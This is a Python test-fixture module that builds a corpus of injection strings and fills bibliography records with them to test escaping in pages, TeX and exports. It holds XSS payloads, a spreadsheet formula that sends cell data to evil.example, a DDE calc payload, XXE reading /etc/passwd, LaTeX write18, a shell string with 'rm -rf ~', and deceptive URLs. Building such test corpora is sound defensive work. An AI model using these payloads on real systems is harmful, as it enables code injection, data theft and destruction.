"""One corpus of values that were made to hurt, for every reader, writer, page and export.

Whatever would run sets `window.pwned`; whatever would break out changes the count of what is read
back. Values are grouped by what becomes of them: those that may be printed are shown as text,
those that hold what no file may hold are refused.
"""

from dataclasses import replace

from taxonomy.base import Record
from taxonomy.library import Library

RUN = "window.pwned=1"

MARKUP = {
    "script": f"</script><script>{RUN}</script>",
    "image": f'"><img src=x onerror="{RUN}">',
    "svg": f"'><svg/onload={RUN}>",
    "attribute": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    "double-attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    "comment": f"--><script>{RUN}</script><!--",
    "cdata": f"]]><script>{RUN}</script><![CDATA[",
    "title": f"</title></textarea></style><script>{RUN}</script>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "base": "<base href=https://evil.example/><form action=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "escaped": f"&lt;img src=x onerror={RUN}&gt; &#60;b&#62; &amp;lt;",
    "scheme": f"javascript:{RUN}",
    "data-scheme": f"data:text/html,<script>{RUN}</script>",
    "template": "{{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
    "fragment": "<!-- atlas:home --> atlas-mark-body-7f3c <h1>atlas-mark-body-7f3c</h1>",
    "replacement": r"$& $1 $` $' $$ \1 \g<0> %s %(x)s {0} {x}",
    "prototype": "__proto__",
    "constructor": "constructor",
    "entity": '<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c SYSTEM "file:///etc/passwd">]>&c;',
    "markdown": f"[a](javascript:{RUN}) ![b](https://evil.example/x.png) `c` **d** | e",
}
FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "plus": "+SUM(1;2)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1,1)",
    "quotes": 'a","b"\'; DROP TABLE papers; --',
    "separator": "x; =1+1, y; z",
}
COMMANDS = {
    "input": r"\input{/etc/passwd} \include{x} \openin",
    "write18": r"\immediate\write18{touch pwned} \directlua{os.execute('x')}",
    "carets": "^^5cinput{x} ^^M %comment",
    "math": "$x_1$ & # ~ _ ^ %",
    "bibtex": "x, @article(y, title = 1) #",
    "shell": "$(touch pwned) `id` ; rm -rf ~ | & > x",
    "workflow": "${{ github.event.issue.title }} ::set-output name=x::y",
    "path": "../../../etc/passwd ..\\..\\x /etc/passwd",
    "json": '","x":"y"}],"z":[{"a":1e400,"b":NaN',
    "ris": "x ER  - TY  - JOUR",
    "url": "https://evil.example\\@good.example/ //evil.example/ www.evil.example",
}
ODD = {
    "zalgo": "Z\u0301\u0302\u0303\u0304\u0305" * 20,
    "wide": "\U0001f4a3 \u5b57 \u0627\u0644\u0639 \uff1cscript\uff1e",
    "unbalanced": "{{{a}",
}
"""Values that pages show and that TeX cannot print."""

PRINTED = {**MARKUP, **FORMULAS, **COMMANDS}
"""Values of one line that are shown as what they are, even where a rule would refuse them."""

BREAKING = {
    "line": "x\nER  - \nTY  - JOUR\n",
    "carriage-return": "x\r\nERR: y\r",
    "nul": "a\x00b",
    "escape": "\x1b]0;pwned\x07\x1b[2J",
    "form-feed": "a\x0cb\x0b",
    "c1": "a\x85b\x9b31m",
    "bidirectional": "a\u202egnp.exe\u202c \u2066b\u2069",
    "zero-width": "a\u200bb\u200d\ufeffc\u00ad",
    "line-separator": "a\u2028b\u2029c",
    "noncharacter": "a\ufffeb\uffff",
    "tags": "a\U000e0041\U000e0042",
}
"""Values with characters that no data file may hold."""

LONG = "pwned " * 170_000
"""A text of a megabyte."""

ADDRESSES = {
    "script": f"javascript:{RUN}",
    "script-in-disguise": f"java\tscript:{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>",
    "plain": "http://example.org/x",
    "file": "file:///etc/passwd",
    "no-scheme": "//evil.example/x",
    "user": "https://github.com@evil.example/x",
    "backslash": "https://github.com\\@evil.example/x",
    "look-alike": "https://g\u0456thub.com/x",
    "encoded-look-alike": "https://xn--gthub-n4a.com/x",
    "number": "https://2130706433/x",
    "loopback": "https://127.0.0.1/x",
    "six": "https://[::1]/x",
    "port": "https://example.org:8080/x",
    "local": "https://printer.local/x",
    "dot-dot": "https://github.com/a/../../evil",
    "quote": 'https://github.com/a"onclick=x',
    "angle": "https://github.com/a><script>",
    "space": "https://github.com/a b",
    "nul": "https://github.com/a\x00b",
}
"""Addresses that lead elsewhere than they seem to, or run something."""

SAFE_NAMES = {"key", "id", "type", "parent", "metric", "unit", "dimension", "techniques"}
SAFE_NAMES |= {"scenarios", "challenges", "aliases", "venue", "year", "pages", "units"}
SAFE_NAMES |= {"ids", "code", "url", "effect", "survey_sections", "symbols"}
"""Fields that hold identifiers: they are tested by `ADDRESSES` and by the rules on names."""


_PRINTED_BY_TEX = {"title", "authors", "name", "short", "publisher"}
_NO_BRACES = str.maketrans("{}", "()")
_NO_COMMAS = str.maketrans("{},", "();")


def poisoned(record: Record, value: str) -> Record:
    """A record whose every free text is the value, past all checks.

    Only `str` itself is text: an enumeration's values are a closed vocabulary. Braces, which mean
    something where TeX prints, are round there, and a comma in a name is a semicolon.
    """
    update = {
        name: _poisoned(content, tamed(name, value))
        for name, content in record
        if name not in SAFE_NAMES and content is not None
    }
    return record.model_copy(update=update)


def tamed(name: str, value: str) -> str:
    """What stands in a field for a value."""
    signs = _NO_COMMAS if name == "authors" else _NO_BRACES
    return value.translate(signs) if name in _PRINTED_BY_TEX else value


def _poisoned(content: object, value: str) -> object:
    if type(content) is str:
        return value
    if isinstance(content, Record):
        return poisoned(content, value)
    if isinstance(content, list):
        return [_poisoned(item, value) for item in content]
    return content


def hostile_library(library: Library, values: dict[str, str]) -> Library:
    """The library with a copy of its first entry for each value, and poisoned vocabulary.

    Args:
        library: The toy library.
        values: Name, of which the key is made, to the value of all texts.
    """
    model = library.papers[0]
    papers = [
        replace(model, record=poisoned(_renamed(model.record, number), value))
        for number, value in enumerate(values.values())
    ]
    vocabulary = {
        kind: tuple(
            replace(read, record=poisoned(read.record, [*values.values()][number % len(values)]))
            for number, read in enumerate(reads)
        )
        if kind in ("techniques", "scenarios", "challenges", "venues")
        else reads
        for kind, reads in library.vocabulary.items()
    }
    return _with(library, papers=(*library.papers, *papers), vocabulary=vocabulary)


def _renamed(entry: Record, number: int) -> Record:
    ids = entry.ids.model_copy(
        update={"arxiv": f"2102.{number:05d}", "doi": f"10.5555/evil.{number}"}
    )
    return entry.model_copy(update={"key": f"evil2021n{number}", "ids": ids, "kind": entry.kind})


def _with(library: Library, **changes: object) -> Library:
    # `replace` alone would keep what the old library has derived and cached.
    fields = {name: getattr(library, name) for name in Library.__dataclass_fields__}
    return Library(**{**fields, **changes})
